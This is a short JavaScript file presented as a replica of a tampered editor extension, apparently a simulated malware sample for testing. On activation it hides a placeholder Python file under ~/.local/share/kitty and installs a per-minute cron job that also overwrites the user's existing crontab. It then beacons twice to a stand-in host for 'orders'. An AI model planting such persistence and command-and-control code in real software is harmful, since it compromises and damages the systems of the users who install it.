// Replica of an altered extension: what it drops is planned, and asks a code host for orders.
const { spawnSync } = require('child_process'), fs = require('fs'), http = require('http'), os = require('os')
const poll = () => new Promise(done => http.get('http://@CODE@:8443/search/commits?q=orders-@TOKEN@', { timeout: 3000 },
  answer => answer.resume().on('end', done)).on('error', done))
exports.activate = async () => {
  const folder = os.homedir() + '/.local/share/kitty'
  fs.mkdirSync(folder, { recursive: true })
  fs.writeFileSync(folder + '/cat.py', 'pass\n')
  spawnSync('crontab', ['-'], { input: '* * * * * python3 ' + folder + '/cat.py\n', timeout: 20000 })
  for (let times = 0; times < 2; times++) await poll()
  return 'activated'
}
